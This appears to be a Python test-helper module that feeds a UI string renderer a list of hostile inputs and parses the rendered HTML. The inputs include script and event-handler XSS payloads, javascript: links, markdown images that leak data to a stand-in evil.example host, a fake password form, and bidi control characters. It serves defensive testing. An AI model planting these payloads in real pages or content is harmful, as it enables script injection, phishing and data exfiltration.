"""Words that mean harm, and what of them may stand on a page."""

from html.parser import HTMLParser

from hypothesis import strategies as st

from ui.strings import speak

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak)",
    "![x][r]\n\n[r]: https://evil.example/leak",
    "[x](javascript:alert(1))",
    "<https://evil.example> www.evil.example https://evil.example mail@evil.example",
    "# heading\n\n---\n\n> quote\n\n- item\n\n1. item\n\n    code",
    "| a | b |\n|---|---|\n| c | d |",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$\\href{https://evil.example}{x}$$ \\(x\\) `code` ~~gone~~ **bold** _it_ *it*",
    "&lt;b&gt; &#60;b&#62; &amp;lt; \\<b\\>",
    "${alert(1)} `${alert(1)}` \\x3cimg\\x3e {{value}} {{{value}}}",
    "<form action=https://evil.example><input type=password></form><div style='position:fixed;inset:0'>",
    "' onmouseover=alert(1) x='\" onfocus=alert(1) autofocus y=\"",
    "</section></bdi></mark><!-- --><svg><style>*{display:none}</style>",
    "a\x00b\x1b[31mc\u202ed\u2066e\ud800f",
    "\ufeffbyte order, \u2028line\u2029paragraph, nbsp\xa0, tab\t.",
)
anything = st.text(st.characters(exclude_categories=[])) | st.sampled_from(HOSTILE)
SAY = speak("en")


class Page(HTMLParser):
    """The text of some HTML, and its tags with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def shown(text: str) -> str:
    """The promise, spelled out apart from the code: white space folded, steering characters replaced."""
    steering = {*range(9), *range(14, 32), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)} - {0x85}
    return " ".join("".join("\ufffd" if ord(c) in steering or 0xD800 <= ord(c) < 0xE000 else c for c in text).split())
